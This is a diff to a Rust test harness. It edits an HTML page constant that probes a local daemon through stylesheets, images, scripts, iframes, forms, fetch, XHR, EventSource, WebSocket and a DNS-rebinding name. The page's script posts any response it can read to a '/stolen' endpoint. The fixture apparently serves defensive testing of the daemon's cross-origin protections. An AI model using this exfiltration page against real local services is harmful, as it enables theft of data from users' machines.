@@ -17,17 +17,17 @@ use crate::harness::upstream::Upstream;
 
 /// Each way in which a page makes a browser ask. `TO` is where the daemon listens, `REBOUND` the same by a name of the page's.
 const PAGE: &str = r#"<!doctype html><title>page</title>
-<link rel=stylesheet href="TO/style"><img src="TO/img"><script src="TO/script"></script><script type=module src="TO/module"></script>
-<iframe src="TO/iframe"></iframe><object data="TO/object"></object>
-<form id=form action="TO/form" target=frame></form><iframe name=frame></iframe>
-<a id=link href="TO/link" target=other></a><iframe name=other></iframe>
+<link rel=stylesheet href="TO"><img src="TO"><script src="TO"></script><script type=module src="TO"></script>
+<iframe src="TO"></iframe><object data="TO"></object>
+<form id=form action="TO" target=frame></form><iframe name=frame></iframe>
+<a id=link href="TO" target=other></a><iframe name=other></iframe>
 <script>
 const get = (url, how) => fetch(url, how).then(answer => answer.text()).then(text => text && fetch("/stolen", {method: "POST", body: text})).catch(() => 0);
-get("TO/fetch"); get("TO/fetch-authorized", {headers: {Authorization: "x"}});
-get("TO/fetch-opaque", {mode: "no-cors"}); get("TO/fetch-silent", {mode: "no-cors", referrerPolicy: "no-referrer"});
-get("REBOUND/rebound"); get("REBOUND/rebound-authorized", {headers: {Authorization: "x"}});
-new EventSource("TO/events"); const xhr = new XMLHttpRequest(); xhr.open("GET", "TO/xhr"); xhr.send();
-try { new WebSocket("TO/socket".replace("http", "ws")); } catch (error) {}
+get("TO"); get("TO", {headers: {Authorization: "x"}});
+get("TO", {mode: "no-cors"}); get("TO", {mode: "no-cors", referrerPolicy: "no-referrer"});
+get("REBOUND"); get("REBOUND", {headers: {Authorization: "x"}});
+new EventSource("TO"); const xhr = new XMLHttpRequest(); xhr.open("GET", "TO"); xhr.send();
+try { new WebSocket("TO".replace("http", "ws")); } catch (error) {}
 form.submit(); link.click();
 </script>"#;
 
